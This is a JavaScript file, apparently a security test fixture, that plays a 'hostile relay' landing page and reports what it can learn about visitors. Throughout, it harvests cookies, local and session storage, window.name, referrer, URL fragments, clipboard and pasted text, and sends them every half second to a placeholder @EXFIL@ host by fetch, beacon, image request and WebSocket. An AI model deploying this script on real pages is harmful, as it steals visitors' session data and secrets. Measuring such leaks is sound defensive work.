// What a hostile relay's landing page can learn, sent back to the relay again and again.
(() => {
  const MARKER = '@MARKER@';
  let seq = 0;
  let socket = null;
  let clipboardSeen = 'not read yet';
  const status = document.createElement('p');
  status.id = 'hostile-status';
  status.style.cssText = 'position:fixed;top:0;left:0;right:0;margin:0;padding:6px 10px;' +
    'background:#b00020;color:#fff;font:13px monospace;z-index:9999;word-break:break-all';
  document.documentElement.appendChild(status);

  function dump(storage) {
    const out = {};
    try {
      for (let i = 0; i < storage.length; i++) out[storage.key(i)] = storage.getItem(storage.key(i));
    } catch (e) { out.error = String(e); }
    return out;
  }

  function grab() {
    let navigationEntry = null;
    try {
      const nav = performance.getEntriesByType('navigation')[0];
      navigationEntry = nav ? nav.name : null;
    } catch (e) { navigationEntry = String(e); }
    return {
      href: location.href,
      hash: location.hash,
      search: location.search,
      referrer: document.referrer,
      cookie: document.cookie,
      windowName: window.name,
      historyLength: history.length,
      localStorage: dump(localStorage),
      sessionStorage: dump(sessionStorage),
      navigationEntry,
      resources: performance.getEntriesByType('resource').map((e) => e.name),
      opener: window.opener !== null,
      title: document.title,
    };
  }

  function send(stage, extra) {
    const report = { marker: MARKER, stage, seq: seq++, at: Date.now(), data: grab(), extra };
    const body = JSON.stringify(report);
    const q = `?m=${MARKER}&stage=${encodeURIComponent(stage)}`;
    try { fetch(`@EXFIL@/fetch${q}`, { method: 'POST', body, keepalive: true, credentials: 'include' }); } catch (e) { /* go on */ }
    try { navigator.sendBeacon(`@EXFIL@/beacon${q}`, body); } catch (e) { /* go on */ }
    try {
      const short = JSON.stringify({ href: location.href, hash: location.hash, referrer: document.referrer, name: window.name });
      new Image().src = `@EXFIL@/img${q}&d=${encodeURIComponent(short.slice(0, 1500))}`;
    } catch (e) { /* go on */ }
    try {
      if (socket && socket.readyState === WebSocket.OPEN) socket.send(body);
    } catch (e) { /* go on */ }
    status.textContent = `hostile relay script: ${seq} reports sent to the relay (last: ${stage}); ` +
      `location.hash = ${JSON.stringify(location.hash)}; referrer = ${JSON.stringify(document.referrer)}; ` +
      `clipboard: ${clipboardSeen}`;
  }

  try {
    socket = new WebSocket(`ws://${location.host}/ws`);
    socket.onopen = () => send('websocket');
  } catch (e) { /* go on */ }

  window.name = window.name || 'hostile-relay-was-here';
  try { localStorage.setItem('hostile-visit', String(Date.now())); } catch (e) { /* go on */ }
  send('load');

  // The clipboard: a visitor may just have copied the invitation. Reading it needs a
  // permission the page does not have (the promise is rejected, or never settles).
  const clipboard = navigator.clipboard && navigator.clipboard.readText
    ? navigator.clipboard.readText().then((text) => ({ ok: true, text }), (e) => ({ ok: false, error: String(e) }))
    : Promise.resolve({ ok: false, error: 'no clipboard API' });
  Promise.race([clipboard, new Promise((r) => setTimeout(() => r({ ok: false, error: 'no answer in 3 s' }), 3000))])
    .then((result) => {
      clipboardSeen = result.ok ? JSON.stringify(result.text) : result.error;
      send('clipboard', result);
    });

  // Anything that happens to the page later: navigations (the Navigation API names the
  // destination of those it may see), fragment changes, pastes, leaving.
  if (window.navigation) {
    navigation.addEventListener('navigate', (e) => send('navigate', { destination: e.destination.url }));
  }
  addEventListener('hashchange', (e) => send('hashchange', { newURL: e.newURL }));
  addEventListener('popstate', () => send('popstate'));
  addEventListener('paste', (e) => send('paste', { text: e.clipboardData ? e.clipboardData.getData('text') : null }));
  addEventListener('focus', () => send('focus'));
  addEventListener('blur', () => send('blur'));
  addEventListener('beforeunload', () => send('beforeunload'));
  addEventListener('pagehide', () => send('pagehide'));
  document.addEventListener('visibilitychange', () => send('visibility', { state: document.visibilityState }));
  setInterval(() => send('poll'), 500);
})();
